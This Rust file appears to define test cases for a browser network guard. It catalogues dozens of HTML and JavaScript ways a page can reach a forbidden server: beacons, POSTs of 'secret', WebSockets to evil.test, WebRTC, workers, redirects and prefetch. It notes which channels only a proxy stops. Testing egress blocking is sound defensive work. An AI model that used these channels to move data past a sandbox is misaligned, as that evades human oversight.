// size: exempt, a flat list of cases
//! The table: how a page tries to reach a forbidden server. `{u}` is an address there, `{h}` its host and
//! port, `{p}` the port; `{g}` the allowed host and port, `{n}` the case's number. `/to/{n}/302` is a
//! redirect of the allowed server to the forbidden one, `/script/{n}` the case's script.

use crate::spellings::{By, SPELLINGS};

/// Where a case runs.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// In a frame among others.
    Frame,
    /// In a tab of its own, which it may take elsewhere.
    Tab,
    /// In a tab of its own, which is closed then.
    Closed,
}

#[derive(Debug, Clone)]
pub struct Case {
    pub name: String,
    pub html: String,
    pub script: &'static str,
    pub header: Option<(&'static str, &'static str)>,
    pub place: Place,
    pub chrome: Chrome,
}

/// Which Chrome it takes.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Chrome {
    /// A headless shell will do.
    Shell,
    /// The full one.
    Full,
    /// The full one with a profile, which connects ahead of need. A private context does not.
    Profile,
}

/// What only the proxy stops: interception does not see it, or sees a name without its address.
pub const ONLY_THE_PROXY: &[&str] = &[
    // Sockets are not requests.
    "full: websocket",
    "service worker websocket",
    "shared worker websocket",
    "websocket",
    "websocket, by name",
    "websocket, http address",
    "websocket, tls",
    "worker websocket",
    // UDP, and TCP in its stead.
    "a peer's candidate",
    "full: stun",
    "full: web transport",
    "stun",
    "turn over tcp",
    "turn over tls",
    "turn over udp",
    "web transport",
    // The address behind a name is the browser's own business.
    "name of a private address, beacon",
    "name of a private address, fetch",
    "name of a private address, frame",
    "name of a private address, https",
    "name of a private address, image",
    "name of a private address, location",
    "name of a private address, websocket",
    "name of a private address, with a dot",
    // Ahead of need: the full Chrome connects to where a tab is about to go before it asks whether it may.
    "full: location",
    "full: location by name",
    "speculative prefetch",
    "speculative prefetch, redirected",
    "speculative prerender",
    // With a tab goes what watches it.
    "window that closes itself",
];

/// What interception stops most of the time, and only the proxy always: the last requests of a document may
/// be sent when its tab is closed already, and with the tab goes what stops them.
pub const NOT_ALWAYS: &[&str] = &["beacon as the tab closes", "fetch as the tab closes"];

/// What the browser itself gives up behind the proxy, before the guard is asked.
pub const UNASKED: &[&str] = &[
    // UDP is off.
    "a peer's candidate",
    "full: stun",
    "full: web transport",
    "stun",
    "turn over udp",
    "web transport",
    // Without TLS there is nothing to be said to the proxy ahead of a request.
    "preconnect",
    "preconnect header",
    "preconnect, anonymous",
    // Chrome does not speculate behind a proxy.
    "speculative prefetch",
    "speculative prefetch, redirected",
    "speculative prerender",
];

/// Every case, in the order of their numbers.
pub fn cases() -> Vec<Case> {
    let mut cases = Vec::new();
    for (name, spelling, by) in SPELLINGS {
        let script = |code: &str| format!("<script>const u = '{spelling}'; {code}</script>");
        if *by == By::Going {
            let place = Place::Tab;
            cases.push(Case {
                place,
                ..case(&format!("{name}, location"), &script("location.href = u"))
            });
            continue;
        }
        for (how, code) in [
            ("location", "location.href = u"),
            ("fetch", "fetch(u, { mode: 'no-cors' }).catch(() => 0)"),
            ("image", "new Image().src = u"),
        ] {
            cases.push(case(&format!("{name}, {how}"), &script(code)));
        }
    }
    cases.extend(FRAMED.iter().map(|(name, html)| case(name, html)));
    cases.extend(SCRIPTED.iter().map(|(name, html, script)| Case { script, ..case(name, html) }));
    let headed = HEADERS.iter().map(|(name, header, value, html)| Case {
        header: Some((header, value)),
        ..case(name, html)
    });
    cases.extend(headed);
    let closed =
        CLOSED.iter().map(|(name, html)| Case { place: Place::Closed, ..case(name, html) });
    cases.extend(closed);
    cases.extend(PROFILE.iter().map(|(name, header, html)| Case {
        header: (!header.is_empty()).then_some(("Link", *header)),
        chrome: Chrome::Profile,
        place: Place::Tab,
        ..case(name, html)
    }));
    let full = |(name, html): &(&str, &str)| Case {
        place: Place::Tab,
        chrome: Chrome::Full,
        ..case(name, html)
    };
    cases.extend(FULL.iter().map(full));
    cases.extend(TABS.iter().map(|(name, html)| Case { place: Place::Tab, ..case(name, html) }));
    cases.push(Case {
        header: Some(("Speculation-Rules", "\"{u}\"")),
        place: Place::Tab,
        ..case("speculation rules by a header", "x")
    });
    cases
}

/// A case in a frame.
pub fn case(name: &str, html: &str) -> Case {
    let (name, html) = (name.to_owned(), format!("<!doctype html><title>Case</title><body>{html}"));
    Case { name, html, script: "", header: None, place: Place::Frame, chrome: Chrome::Shell }
}

const FRAMED: &[(&str, &str)] = &[
    // What a document loads.
    ("img", "<img src='{u}'>"),
    ("img srcset", "<img srcset='{u} 1x'>"),
    ("picture", "<picture><source srcset='{u}'><img></picture>"),
    ("img with a referrer policy", "<img src='{u}' referrerpolicy=no-referrer crossorigin>"),
    ("script", "<script src='{u}'></script>"),
    ("script, async", "<script async src='{u}'></script>"),
    ("script module", "<script type=module src='{u}'></script>"),
    ("dynamic import", "<script>import('{u}').catch(() => 0)</script>"),
    ("import in a module", "<script type=module>import '{u}'</script>"),
    (
        "script by document.write",
        "<script>document.write(\"<script src='{u}'></\" + 'script>')</script>",
    ),
    ("stylesheet", "<link rel=stylesheet href='{u}'>"),
    ("css import", "<style>@import url('{u}');</style>"),
    ("css background", "<div style=\"background: url('{u}'); height: 9px\">x</div>"),
    ("css image-set", "<div style=\"background: image-set('{u}' 1x); height: 9px\">x</div>"),
    (
        "css font",
        "<style>@font-face { font-family: f; src: url('{u}') } p { font-family: f }</style><p>x",
    ),
    ("css mask", "<div style=\"mask-image: url('{u}'); height: 9px; background: red\">x</div>"),
    ("css border image", "<div style=\"border: 9px solid; border-image: url('{u}') 9\">x</div>"),
    ("css list style", "<ul style=\"list-style-image: url('{u}')\"><li>x</ul>"),
    ("css content", "<style>p::before { content: url('{u}') }</style><p>x"),
    ("body background", "<table background='{u}'><tr><td>x</table>"),
    ("input image", "<input type=image src='{u}'>"),
    ("video", "<video src='{u}' preload=auto></video>"),
    ("video poster", "<video poster='{u}'></video>"),
    ("audio", "<audio src='{u}' preload=auto></audio>"),
    ("media source", "<video preload=auto><source src='{u}'></video>"),
    ("text track", "<video crossorigin><track default kind=subtitles src='{u}'></video>"),
    ("object", "<object data='{u}'></object>"),
    ("embed", "<embed src='{u}' type=text/html>"),
    ("iframe", "<iframe src='{u}'></iframe>"),
    ("iframe, sandboxed", "<iframe sandbox src='{u}'></iframe>"),
    ("iframe, later", "<iframe name=f></iframe><script>frames.f.location = '{u}'</script>"),
    ("frame in srcdoc", "<iframe srcdoc=\"<iframe src='{u}'></iframe>\"></iframe>"),
    ("image in srcdoc", "<iframe srcdoc=\"<img src='{u}'>\"></iframe>"),
    ("svg image", "<svg><image href='{u}' width=9 height=9 /></svg>"),
    (
        "svg feImage",
        "<svg width=9 height=9><filter id=f><feImage href='{u}'/></filter><rect width=9 height=9 filter='url(#f)'/></svg>",
    ),
    (
        "shadow image",
        "<p id=h></p><script>h.attachShadow({ mode: 'closed' }).innerHTML = \"<img src='{u}'>\"</script>",
    ),
    ("base", "<base href='http://{h}/'><img src=x>"),
    // Ahead of need.
    ("preload", "<link rel=preload as=image href='{u}'>"),
    ("preload as fetch", "<link rel=preload as=fetch crossorigin href='{u}'>"),
    ("module preload", "<link rel=modulepreload href='{u}'>"),
    ("prefetch", "<link rel=prefetch href='{u}'>"),
    // What a script asks for.
    ("fetch", "<script>fetch('{u}').catch(() => 0)</script>"),
    (
        "fetch with a header",
        "<script>fetch('{u}', { headers: { 'X-A': 'b' } }).catch(() => 0)</script>",
    ),
    (
        "fetch post",
        "<script>fetch('{u}', { method: 'POST', body: 'secret' }).catch(() => 0)</script>",
    ),
    (
        "fetch keepalive",
        "<script>fetch('{u}', { keepalive: true, mode: 'no-cors' }).catch(() => 0)</script>",
    ),
    (
        "fetch as the frame goes",
        "<script>addEventListener('pagehide', () => fetch('{u}', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' })); location.href = 'about:blank'</script>",
    ),
    (
        "XMLHttpRequest",
        "<script>const x = new XMLHttpRequest; x.open('GET', '{u}'); x.send()</script>",
    ),
    (
        "XMLHttpRequest, synchronous",
        "<script>try { const x = new XMLHttpRequest; x.open('GET', '{u}', false); x.send() } catch {}</script>",
    ),
    ("beacon", "<script>navigator.sendBeacon('{u}', 'secret')</script>"),
    ("event source", "<script>new EventSource('{u}')</script>"),
    ("websocket", "<script>new WebSocket('ws://{h}/')</script>"),
    ("websocket, by name", "<script>new WebSocket('ws://evil.test:{p}/')</script>"),
    ("websocket, tls", "<script>new WebSocket('wss://{h}/')</script>"),
    ("websocket, http address", "<script>new WebSocket('http://{h}/')</script>"),
    (
        "cache add",
        "<script>caches.open('c').then(c => c.add(new Request('{u}', { mode: 'no-cors' }))).catch(() => 0)</script>",
    ),
    (
        "image bitmap of an image",
        "<script>const i = new Image; i.crossOrigin = ''; i.src = '{u}'; i.decode().catch(() => 0)</script>",
    ),
    ("font face", "<script>new FontFace('f', 'url({u})').load().catch(() => 0)</script>"),
    ("paint worklet", "<script>CSS.paintWorklet.addModule('{u}').catch(() => 0)</script>"),
    ("ping of a link", "<a id=a href='#x' ping='{u}'>x</a><script>a.click()</script>"),
    // Pages made on the spot.
    ("data page with an image", "<iframe src=\"data:text/html,<img src='{u}'>\"></iframe>"),
    (
        "data page that fetches",
        "<iframe src=\"data:text/html,<script>fetch('{u}',{mode:'no-cors'})</script>\"></iframe>",
    ),
    (
        "blob page with an image",
        "<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([\"<img src='{u}'>\"], { type: 'text/html' })); document.body.append(f)</script>",
    ),
    (
        "blob page that fetches",
        "<script>const f = document.createElement('iframe'); f.src = URL.createObjectURL(new Blob([\"<script>fetch('{u}',{mode:'no-cors'})</\" + 'script>'], { type: 'text/html' })); document.body.append(f)</script>",
    ),
    (
        "blank page with an image",
        "<iframe name=f></iframe><script>frames.f.document.write(\"<img src='{u}'>\")</script>",
    ),
    ("javascript page", "<iframe src=\"javascript:'<img src={u}>'\"></iframe>"),
    (
        "data page that goes on",
        "<iframe src=\"data:text/html,<script>location='{u}'</script>\"></iframe>",
    ),
    // Going elsewhere in a frame.
    ("location.assign", "<script>location.assign('{u}')</script>"),
    ("location.replace", "<script>location.replace('{u}')</script>"),
    ("meta refresh", "<meta http-equiv=refresh content='0;url={u}'>"),
    ("link clicked", "<a id=a href='{u}'>x</a><script>a.click()</script>"),
    (
        "form get",
        "<form id=f action='{u}'><input name=a value=b></form><script>f.submit()</script>",
    ),
    (
        "form post",
        "<form id=f method=post action='{u}'><input name=a value=secret></form><script>f.submit()</script>",
    ),
    (
        "form post, plain text",
        "<form id=f method=post enctype=text/plain action='{u}'><input name=a value=b></form><script>f.submit()</script>",
    ),
    (
        "form action of a button",
        "<form><button id=b formaction='{u}' formmethod=post>x</button></form><script>b.click()</script>",
    ),
    (
        "form into a frame",
        "<iframe name=t></iframe><form id=f method=post target=t action='{u}'></form><script>f.submit()</script>",
    ),
    ("navigation api", "<script>navigation.navigate('{u}').finished.catch(() => 0)</script>"),
    ("base and link", "<base href='http://{h}/'><a id=a href=x>x</a><script>a.click()</script>"),
    // Redirects of the allowed server.
    ("redirected image", "<img src='/to/{n}/302'>"),
    ("redirected script", "<script src='/to/{n}/301'></script>"),
    ("redirected stylesheet", "<link rel=stylesheet href='/to/{n}/302'>"),
    ("redirected frame", "<iframe src='/to/{n}/302'></iframe>"),
    ("redirected fetch 301", "<script>fetch('/to/{n}/301').catch(() => 0)</script>"),
    ("redirected fetch 303", "<script>fetch('/to/{n}/303').catch(() => 0)</script>"),
    (
        "redirected post 307",
        "<script>fetch('/to/{n}/307', { method: 'POST', body: 'x' }).catch(() => 0)</script>",
    ),
    (
        "redirected post 308",
        "<script>fetch('/to/{n}/308', { method: 'POST', body: 'x' }).catch(() => 0)</script>",
    ),
    ("redirected twice", "<script>fetch('/to/{n}/again').catch(() => 0)</script>"),
    ("redirected event source", "<script>new EventSource('/to/{n}/302')</script>"),
    ("redirected beacon", "<script>navigator.sendBeacon('/to/{n}/307', 'x')</script>"),
    ("redirected video", "<video src='/to/{n}/302' preload=auto></video>"),
    (
        "redirected font",
        "<script>new FontFace('f', 'url(/to/{n}/302)').load().catch(() => 0)</script>",
    ),
    ("redirected module", "<script>import('/to/{n}/302').catch(() => 0)</script>"),
    ("redirected prefetch", "<link rel=prefetch href='/to/{n}/302'>"),
    (
        "redirected form",
        "<form id=f method=post action='/to/{n}/307'></form><script>f.submit()</script>",
    ),
    ("redirected location", "<script>location = '/to/{n}/308'</script>"),
    // Names that are allowed and stand for an address that is not.
    ("name of a private address, image", "<img src='http://a.allowed.test:{p}/'>"),
    (
        "name of a private address, fetch",
        "<script>fetch('http://b.allowed.test:{p}/').catch(() => 0)</script>",
    ),
    (
        "name of a private address, https",
        "<script>fetch('https://c.allowed.test:{p}/').catch(() => 0)</script>",
    ),
    ("name of a private address, frame", "<iframe src='http://d.allowed.test:{p}/'></iframe>"),
    (
        "name of a private address, websocket",
        "<script>new WebSocket('ws://e.allowed.test:{p}/')</script>",
    ),
    (
        "name of a private address, beacon",
        "<script>navigator.sendBeacon('http://f.allowed.test:{p}/', 'x')</script>",
    ),
    (
        "name of a private address, location",
        "<script>location = 'http://g.allowed.test:{p}/'</script>",
    ),
    (
        "name of a private address, with a dot",
        "<script>location = 'http://h.allowed.test.:{p}/'</script>",
    ),
    // Real-time connections.
    (
        "stun",
        "<script>rtc({ urls: 'stun:127.0.0.2:{p}' }); function rtc(s) { const c = new RTCPeerConnection({ iceServers: [s] }); c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o)) }</script>",
    ),
    (
        "turn over udp",
        "<script>rtc({ urls: 'turn:127.0.0.2:{p}?transport=udp', username: 'u', credential: 'p' }); function rtc(s) { const c = new RTCPeerConnection({ iceServers: [s] }); c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o)) }</script>",
    ),
    (
        "turn over tcp",
        "<script>rtc({ urls: 'turn:127.0.0.2:{p}?transport=tcp', username: 'u', credential: 'p' }); function rtc(s) { const c = new RTCPeerConnection({ iceServers: [s], iceTransportPolicy: 'relay' }); c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o)) }</script>",
    ),
    (
        "turn over tls",
        "<script>rtc({ urls: 'turns:127.0.0.2:{p}?transport=tcp', username: 'u', credential: 'p' }); function rtc(s) { const c = new RTCPeerConnection({ iceServers: [s], iceTransportPolicy: 'relay' }); c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o)) }</script>",
    ),
    (
        "a peer's candidate",
        "<script>(async () => { const c = new RTCPeerConnection, d = new RTCPeerConnection; c.createDataChannel('d'); const o = await c.createOffer(); await c.setLocalDescription(o); await d.setRemoteDescription(o); const a = await d.createAnswer(); await d.setLocalDescription(a); await c.setRemoteDescription(a); c.addIceCandidate({ candidate: 'candidate:1 1 udp 2122260223 127.0.0.2 {p} typ host', sdpMid: '0' }) })()</script>",
    ),
    ("web transport", "<script>new WebTransport('https://{h}/').ready.catch(() => 0)</script>"),
];

const SCRIPTED: &[(&str, &str, &str)] = &[
    (
        "worker fetch",
        "<script>new Worker('/script/{n}')</script>",
        "fetch('{u}', { mode: 'no-cors' })",
    ),
    ("worker importScripts", "<script>new Worker('/script/{n}')</script>", "importScripts('{u}')"),
    (
        "worker XMLHttpRequest",
        "<script>new Worker('/script/{n}')</script>",
        "const x = new XMLHttpRequest; x.open('GET', '{u}'); x.send()",
    ),
    (
        "worker websocket",
        "<script>new Worker('/script/{n}')</script>",
        "new WebSocket('ws://{h}/')",
    ),
    ("worker event source", "<script>new Worker('/script/{n}')</script>", "new EventSource('{u}')"),
    (
        "worker cache",
        "<script>new Worker('/script/{n}')</script>",
        "caches.open('c').then(c => c.add(new Request('{u}', { mode: 'no-cors' })))",
    ),
    (
        "module worker import",
        "<script>new Worker('/script/{n}', { type: 'module' })</script>",
        "import '{u}'",
    ),
    (
        "worker redirected fetch",
        "<script>new Worker('/script/{n}')</script>",
        "fetch('/to/{n}/302', { mode: 'no-cors' })",
    ),
    (
        "worker in a worker",
        "<script>new Worker('/script/{n}')</script>",
        "new Worker(URL.createObjectURL(new Blob([\"fetch('{u}', { mode: 'no-cors' })\"])))",
    ),
    (
        "blob worker",
        "<script>fetch('/script/{n}').then(a => a.blob()).then(b => new Worker(URL.createObjectURL(b)))</script>",
        "fetch('{u}', { mode: 'no-cors' })",
    ),
    (
        "data worker",
        "<script>fetch('/script/{n}').then(a => a.text()).then(t => new Worker('data:text/javascript,' + encodeURIComponent(t)))</script>",
        "fetch('{u}', { mode: 'no-cors' })",
    ),
    (
        "shared worker fetch",
        "<script>new SharedWorker('/script/{n}')</script>",
        "fetch('{u}', { mode: 'no-cors' })",
    ),
    (
        "shared worker importScripts",
        "<script>new SharedWorker('/script/{n}')</script>",
        "importScripts('{u}')",
    ),
    (
        "shared worker websocket",
        "<script>new SharedWorker('/script/{n}')</script>",
        "new WebSocket('ws://{h}/')",
    ),
    (
        "service worker fetch",
        "<script>navigator.serviceWorker.register('/script/{n}', { scope: '/sw/{n}/' })</script>",
        "addEventListener('install', e => e.waitUntil(fetch('{u}', { mode: 'no-cors' }).catch(() => 0)))",
    ),
    (
        "service worker importScripts",
        "<script>navigator.serviceWorker.register('/script/{n}', { scope: '/sw/{n}/' }).catch(() => 0)</script>",
        "importScripts('{u}')",
    ),
    (
        "service worker module import",
        "<script>navigator.serviceWorker.register('/script/{n}', { scope: '/sw/{n}/', type: 'module' }).catch(() => 0)</script>",
        "import '{u}'",
    ),
    (
        "service worker websocket",
        "<script>navigator.serviceWorker.register('/script/{n}', { scope: '/sw/{n}/' })</script>",
        "new WebSocket('ws://{h}/')",
    ),
    (
        "service worker cache",
        "<script>navigator.serviceWorker.register('/script/{n}', { scope: '/sw/{n}/' }).catch(() => 0)</script>",
        "addEventListener('install', e => e.waitUntil(caches.open('c').then(c => c.add(new Request('{u}', { mode: 'no-cors' }))).catch(() => 0)))",
    ),
    (
        "service worker redirected fetch",
        "<script>navigator.serviceWorker.register('/script/{n}', { scope: '/sw/{n}/' })</script>",
        "addEventListener('install', e => e.waitUntil(fetch('/to/{n}/302', { mode: 'no-cors' }).catch(() => 0)))",
    ),
    (
        "service worker answers from elsewhere",
        "<script>(async () => { const r = await navigator.serviceWorker.register('/script/{n}', { scope: '/case/{n}' }); const w = r.installing || r.waiting || r.active; const go = () => { if (w.state == 'activated') { const f = document.createElement('iframe'); f.src = '/case/{n}/page'; document.body.append(f) } }; w.onstatechange = go; go() })()</script>",
        "addEventListener('install', () => skipWaiting()); addEventListener('fetch', e => { if (e.request.url.endsWith('/page')) e.respondWith(fetch('{u}', { mode: 'no-cors' })) })",
    ),
];

const HEADERS: &[(&str, &str, &str, &str)] = &[
    ("preload header", "Link", "<{u}>; rel=preload; as=image", "x"),
    ("prefetch header", "Link", "<{u}>; rel=prefetch", "x"),
    ("stylesheet preload header", "Link", "<{u}>; rel=preload; as=style", "x"),
    ("refresh header", "Refresh", "0;url={u}", "x"),
    (
        "content policy report",
        "Content-Security-Policy",
        "img-src 'none'; report-uri {u}",
        "<img src='/nothing.png'>",
    ),
    (
        "content policy report only",
        "Content-Security-Policy-Report-Only",
        "img-src 'none'; report-uri {u}",
        "<img src='/nothing.png'>",
    ),
];

const TABS: &[(&str, &str)] = &[
    ("tab location", "<script>location.href = '{u}'</script>"),
    ("tab location by name", "<script>location.href = 'http://evil.test:{p}/'</script>"),
    ("tab meta refresh", "<meta http-equiv=refresh content='0;url={u}'>"),
    ("tab form post", "<form id=f method=post action='{u}'></form><script>f.submit()</script>"),
    ("tab redirected", "<script>location = '/to/{n}/302'</script>"),
    ("tab redirected twice", "<script>location = '/to/{n}/again'</script>"),
    (
        "top location from a frame",
        "<iframe srcdoc=\"<script>top.location = '{u}'</script>\"></iframe>",
    ),
    ("new window", "<script>window.open('{u}')</script>"),
    ("new window without opener", "<script>window.open('{u}', '_blank', 'noopener')</script>"),
    (
        "new window that goes on",
        "<script>const w = window.open('about:blank'); w.location = '{u}'</script>",
    ),
    (
        "new window written to",
        "<script>const w = window.open(''); w.document.write(\"<img src='{u}'>\")</script>",
    ),
    ("new window redirected", "<script>window.open('/to/{n}/302')</script>"),
    ("link to a new window", "<a id=a target=_blank href='{u}'>x</a><script>a.click()</script>"),
    (
        "form into a new window",
        "<form id=f method=post target=_blank action='{u}'></form><script>f.submit()</script>",
    ),
    ("download", "<a id=a download href='{u}'>x</a><script>a.click()</script>"),
    ("download, redirected", "<a id=a download href='/to/{n}/302'>x</a><script>a.click()</script>"),
    (
        "speculative prefetch",
        "<a href='{u}'>x</a><script type=speculationrules>{\"prefetch\": [{\"urls\": [\"{u}\"], \"eagerness\": \"immediate\"}]}</script>",
    ),
    (
        "speculative prefetch, redirected",
        "<script type=speculationrules>{\"prefetch\": [{\"urls\": [\"/to/{n}/302\"], \"eagerness\": \"immediate\"}]}</script>",
    ),
    (
        "speculative prerender",
        "<script type=speculationrules>{\"prerender\": [{\"urls\": [\"/to/{n}/302\"], \"eagerness\": \"immediate\"}]}</script>",
    ),
    (
        "window that closes itself",
        "<script>if (location.search) { addEventListener('pagehide', () => navigator.sendBeacon('{u}', 'x')); setTimeout(() => window.close(), 50) } else window.open('?w')</script>",
    ),
    (
        "back to a page that goes on",
        "<script>if (location.search) history.back(); else onpageshow = () => setTimeout(() => { if (sessionStorage.been) location = '{u}'; else { sessionStorage.been = 1; location = '?2' } })</script>",
    ),
];

/// What is asked for as the tab goes.
const CLOSED: &[(&str, &str)] = &[
    (
        "beacon as the tab closes",
        "<script>addEventListener('pagehide', () => navigator.sendBeacon('{u}', 'x'))</script>",
    ),
    (
        "fetch as the tab closes",
        "<script>addEventListener('pagehide', () => fetch('{u}', { keepalive: true, mode: 'no-cors', method: 'POST', body: 'x' }))</script>",
    ),
];

/// What only a profile's own context does.
const PROFILE: &[(&str, &str, &str)] = &[
    ("preconnect", "", "<link rel=preconnect href='http://{h}/'>"),
    ("preconnect, https", "", "<link rel=preconnect href='https://{h}/'>"),
    ("preconnect, anonymous", "", "<link rel=preconnect crossorigin href='http://{h}/'>"),
    ("preconnect header", "<http://{h}/>; rel=preconnect", "x"),
];

/// The same again in a full Chrome, where some of it takes other ways.
const FULL: &[(&str, &str)] = &[
    (
        "full: stun",
        "<script>const c = new RTCPeerConnection({ iceServers: [{ urls: 'stun:127.0.0.2:{p}' }] }); c.createDataChannel('d'); c.createOffer().then(o => c.setLocalDescription(o))</script>",
    ),
    (
        "full: web transport",
        "<script>new WebTransport('https://{h}/').ready.catch(() => 0)</script>",
    ),
    ("full: websocket", "<script>new WebSocket('ws://{h}/')</script>"),
    ("full: location", "<script>location = '{u}'</script>"),
    ("full: location by name", "<script>location = 'http://evil.test:{p}/'</script>"),
    ("full: image on localhost", "<img src='http://localhost:{p}/'>"),
    ("full: image on another port", "<img src='http://127.0.0.1:{p}/'>"),
    ("full: https image", "<img src='https://{h}/'>"),
];
